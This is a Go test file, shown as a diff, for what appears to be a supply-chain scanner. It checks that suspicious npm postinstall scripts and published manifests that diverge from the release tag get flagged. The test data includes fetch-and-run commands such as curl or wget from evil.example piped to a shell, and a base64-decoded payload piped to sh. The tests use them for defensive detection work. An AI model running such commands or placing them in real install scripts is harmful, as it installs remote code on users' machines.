@@ -0,0 +1,126 @@
+package ebert
+
+import (
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+func TestSuspiciousScript(t *testing.T) {
+	for _, tt := range []struct {
+		script string
+		want   bool
+	}{
+		{"curl -s https://evil.example/x.sh | sh", true},
+		{"wget -qO- evil.example | bash", true},
+		{"node -e \"require('child_process').exec(process.env.CMD)\"", true},
+		{"node --eval 'fetch(1)'", true},
+		{"echo " + strings.Repeat("QUJD", 20) + " | base64 -d | sh", true},
+		{"node -r ./hook.js; eval(atob(x))", true},
+		{"node-gyp rebuild", false},
+		{"node scripts/build.js", false},
+		{"husky install", false},
+	} {
+		if got := suspiciousScript(tt.script); got != tt.want {
+			t.Errorf("%q: suspicious = %v, want %v", tt.script, got, tt.want)
+		}
+	}
+}
+
+func TestInstallScriptsAgainstReleaseTag(t *testing.T) {
+	unspaced(t)
+	manifest := func(name, postinstall string) []byte {
+		data, _ := json.Marshal(map[string]any{"name": name, "version": "1.2.0", "scripts": map[string]string{"postinstall": postinstall}})
+		return data
+	}
+	account := newAccount("publisher", days(2000),
+		GitHubRepo{Name: "released", Language: "JavaScript", Size: 400, StargazersCount: 90, UpdatedAt: fakeNow.Add(-days(3))},
+		GitHubRepo{Name: "tampered", Language: "JavaScript", Size: 400, StargazersCount: 80, UpdatedAt: fakeNow.Add(-days(3))},
+		GitHubRepo{Name: "untagged", Language: "JavaScript", Size: 400, StargazersCount: 70, UpdatedAt: fakeNow.Add(-days(3))},
+	)
+	f := newFakeGitHub(t, account)
+
+	// What each package publishes, and its package.json at v1.2.0 and on
+	// the default branch, which has moved on since the release
+	packages := map[string]struct{ published, tagged, head string }{
+		"released": {"node build.js", "node build.js", "node build.js --fast"},
+		"tampered": {"curl -s https://evil.example/x | sh", "node build.js", "node build.js"},
+		"untagged": {"node setup.js", "", "node build.js"},
+	}
+	f.host("registry.npmjs.org", func(w http.ResponseWriter, r *http.Request) {
+		name, _, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
+		pkg, ok := packages[name]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write(manifest(name, pkg.published))
+	})
+	for name, pkg := range packages {
+		f.route("/repos/publisher/"+name+"/contents/package.json", func(w http.ResponseWriter, r *http.Request) {
+			switch ref := r.URL.Query().Get("ref"); {
+			case ref == "":
+				_, _ = w.Write(manifest(name, pkg.head))
+			case ref == "v1.2.0" && pkg.tagged != "":
+				_, _ = w.Write(manifest(name, pkg.tagged))
+			default:
+				http.NotFound(w, r)
+			}
+		})
+	}
+
+	a := newFakeAnalyzerToken(f, "ghp_test", WithDeepChecks(true), WithExternalChecks(true))
+	analysis, err := a.Analyze("publisher")
+	if err != nil {
+		t.Fatalf("Analyze: %v", err)
+	}
+
+	if flag := finding(analysis, "SUSPICIOUS_INSTALL_SCRIPT"); flag == nil || len(flag.Evidence) != 1 || !strings.HasPrefix(flag.Evidence[0], "tampered postinstall") {
+		t.Errorf("SUSPICIOUS_INSTALL_SCRIPT = %+v, want tampered alone", flag)
+	}
+	diverges := finding(analysis, "PUBLISHED_MANIFEST_DIVERGES")
+	if diverges == nil {
+		t.Fatal("want PUBLISHED_MANIFEST_DIVERGES")
+	}
+	if diverges.Severity != SeverityRedFlag {
+		t.Errorf("severity = %s, want a red flag for a divergence at the tag", diverges.Severity)
+	}
+	evidence := strings.Join(diverges.Evidence, "\n")
+	if strings.Contains(evidence, "released@") {
+		t.Errorf("a package matching its tag was flagged:\n%s", evidence)
+	}
+	if !strings.Contains(evidence, `tampered@1.2.0 postinstall: published "curl -s https://evil.example/x | sh", repo "node build.js" (v1.2.0)`) {
+		t.Errorf("evidence should show the tampered script against the tag:\n%s", evidence)
+	}
+	if !strings.Contains(evidence, "untagged@1.2.0 postinstall") || !strings.Contains(evidence, "no release tag") {
+		t.Errorf("evidence should say the untagged package had no tag:\n%s", evidence)
+	}
+}
+
+func TestInstallScriptsWithoutReleaseTag(t *testing.T) {
+	unspaced(t)
+	account := newAccount("drifter", days(2000),
+		GitHubRepo{Name: "moved-on", Language: "JavaScript", Size: 400, StargazersCount: 50, UpdatedAt: fakeNow.Add(-days(3))},
+	)
+	f := newFakeGitHub(t, account)
+	f.host("registry.npmjs.org", func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write([]byte(`{"name":"moved-on","version":"0.9.0","scripts":{"postinstall":"node old.js"}}`))
+	})
+	f.route("/repos/drifter/moved-on/contents/package.json", func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Query().Get("ref") != "" {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write([]byte(`{"name":"moved-on","scripts":{"postinstall":"node new.js"}}`))
+	})
+
+	analysis, err := newFakeAnalyzerToken(f, "ghp_test", WithDeepChecks(true), WithExternalChecks(true)).Analyze("drifter")
+	if err != nil {
+		t.Fatalf("Analyze: %v", err)
+	}
+	diverges := finding(analysis, "PUBLISHED_MANIFEST_DIVERGES")
+	if diverges == nil || diverges.Severity != SeverityWarning {
+		t.Fatalf("want a PUBLISHED_MANIFEST_DIVERGES warning without a tag, got %+v", diverges)
+	}
+}